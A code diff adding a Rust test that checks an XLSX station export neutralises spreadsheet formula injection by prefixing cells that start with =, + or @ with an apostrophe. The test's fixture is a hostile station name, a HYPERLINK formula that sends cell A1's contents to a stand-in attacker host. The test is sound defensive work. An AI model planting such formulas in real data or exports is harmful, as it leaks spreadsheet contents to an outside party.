@@ -888,3 +888,39 @@ both_backends!(lists_export_to_xlsx_within_scope, |t: TestDb| async move {
         "{rows:?}"
     );
 });
+
+both_backends!(
+    a_hostile_name_stays_text_in_the_export,
+    |t: TestDb| async move {
+        let app = App::new(t).await;
+        let (street_a, _, _, _) = district(app.db()).await;
+        let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"查看\")";
+        yizhan_store::stations::create(
+            app.db(),
+            &yizhan_core::access::Actor::system(),
+            &yizhan_core::station::NewStation {
+                street_id: street_a,
+                name: hostile.into(),
+                address: "+86 深圳市龙岗区".into(),
+                kind: yizhan_core::station::StationKind::Hotel,
+                capacity: 10,
+                contact_name: "@联系人".into(),
+                contact_phone: "13800138000".into(),
+                active: true,
+            },
+        )
+        .await
+        .unwrap();
+        let cmd = app
+            .user("zhihui", Role::Commander, Scope::District, false)
+            .await;
+        let mut c = app.session_for(cmd).await;
+        let r = app.get(&mut c, "/stations/export.xlsx").await;
+        assert_eq!(r.status, StatusCode::OK);
+        let rows = xlsx_rows(&r.bytes, "驿站");
+        let row = rows.iter().find(|r| r[0].contains("HYPERLINK")).unwrap();
+        assert_eq!(row[0], format!("'{hostile}"));
+        assert_eq!(row[3], "'+86 深圳市龙岗区");
+        assert!(row.iter().all(|cell| !cell.starts_with(['=', '+', '@'])));
+    }
+);
